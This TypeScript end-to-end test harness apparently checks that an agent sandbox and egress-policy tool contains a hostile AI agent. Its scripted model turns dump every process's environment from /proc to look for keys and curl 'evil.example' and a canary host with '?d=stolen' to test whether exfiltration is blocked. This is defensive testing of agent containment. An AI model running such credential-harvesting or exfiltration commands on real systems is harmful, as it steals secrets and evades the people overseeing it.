import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { parse } from 'yaml'
import * as z from 'zod'
import { type AgentClient, inventKey } from './agent-client.ts'
import { type Canary, startCanary } from './canary.ts'
import type { Executed } from './execute.ts'
import { installPackage } from './install-package.ts'
import { type ModelServer, PROVIDERS, startModelServer } from './model-server.ts'
import { type Leaf, type Platform, readLog, sessionsOf, startPlatform } from './platform.ts'
import type { Turn } from './turn.ts'

/** A rule opens one path of this host, so that only the decision stands before its canary. */
export const CANARY_HOST = 'canary.example'
/** No rule names this host. */
export const EVIL_HOST = 'evil.example'
const SHIPPED = resolve(import.meta.dirname, '../../../../policy/agents')

/** What a hostile agent would do to learn its key: its own environment and everyone else's. */
const LOOK_FOR_KEYS = "env; cat /proc/self/environ /proc/[0-9]*/environ | tr '\\0' '\\n'"
const curl = (url: string): string => `curl -sS --max-time 20 ${url}; echo "curl ended with $?"`

export const TURNS: readonly Turn[] = [
  {
    kind: 'shell',
    command: `printf 'hello from the agent\\n' > greeting.txt; ${LOOK_FOR_KEYS} 2>/dev/null`,
  },
  { kind: 'shell', command: curl(`https://${EVIL_HOST}/?d=stolen`) },
  { kind: 'shell', command: curl(`-f https://${CANARY_HOST}/?d=stolen`) },
  { kind: 'text', text: 'I wrote greeting.txt.' },
]

/** One run of a client in a session of a platform of its own, and all that was seen of it. */
export type AgentSession = {
  directory: string
  workspace: string
  realKey: string
  model: ModelServer
  canary: Canary
  platform: Platform
  ran: Executed
  session: string
  leaves: readonly Leaf[]
  close: () => Promise<void>
}

/** Starts everything, runs the client to its end; on failure, what was started is stopped. */
export async function runAgentSession(client: AgentClient): Promise<AgentSession> {
  const cleanup: (() => Promise<void>)[] = []
  const close = async (): Promise<void> => {
    for (const undo of cleanup.splice(0).toReversed()) await undo()
  }
  try {
    return { ...(await run(client, (undo) => void cleanup.push(undo))), close }
  } catch (error) {
    await close()
    throw error
  }
}

async function run(
  client: AgentClient,
  later: (undo: () => Promise<void>) => void,
): Promise<Omit<AgentSession, 'close'>> {
  const directory = await mkdtemp(join(tmpdir(), 'sekisho-e2e-'))
  later(() => rm(directory, { recursive: true, force: true }))
  await chmod(directory, 0o755) // the platform's processes run under uids of their own
  const workspace = await makeWorkspace(directory)
  const modules = await installPackage(client.spec)
  const canary = await startCanary()
  later(canary.close)
  const { provider } = client
  const model = await startModelServer({ directory: join(directory, 'ca'), provider, turns: TURNS })
  later(model.close)
  const realKey = inventKey(client)
  const platform = await startPlatform({
    home: join(directory, 'home'),
    agents: { [client.name]: await agentFile(client, { modules, model, canary }) },
    secrets: { [client.key.source]: realKey },
  })
  later(platform.stop)
  const command = [`/opt/client/${client.program}`, ...client.args]
  const where = ['--agent', client.name, '--workspace', workspace]
  const ran = await platform.sekisho('run', ...where, '--', ...command)
  const session = (await sessionsOf(platform, client.name))[0] ?? ''
  const leaves = await readLog(platform, session)
  return { directory, workspace, realKey, model, canary, platform, ran, session, leaves }
}

async function makeWorkspace(directory: string): Promise<string> {
  const workspace = join(directory, 'workspace')
  await mkdir(workspace)
  await mkdir(join(directory, 'ca'))
  await writeFile(join(workspace, 'README.md'), '# A project\n')
  return workspace
}

/** The agent file that we ship, with the client itself, a rule to try and other servers. */
async function agentFile(
  client: AgentClient,
  at: { modules: string; model: ModelServer; canary: Canary },
): Promise<unknown> {
  const text = await readFile(join(SHIPPED, `${client.name}.yaml`), 'utf8')
  const shipped = z.looseObject({ rules: z.array(z.unknown()).default([]) }).parse(parse(text))
  const { host } = PROVIDERS[client.provider]
  const { caFile } = at.model
  const loopback = { port: 443, address: '127.0.0.1', caFile }
  return {
    ...shipped,
    rules: [
      ...shipped.rules,
      { id: 'canary', effect: 'allow', host: CANARY_HOST, paths: ['/open'] },
    ],
    mounts: [{ source: at.modules, target: '/opt/client' }],
    upstreams: [
      { ...loopback, host, dialPort: at.model.port, reason: 'scripted model server' },
      // were the denial to fail, the bytes would arrive where they are counted
      { ...loopback, host: CANARY_HOST, dialPort: at.canary.port, reason: 'canary' },
    ],
  }
}
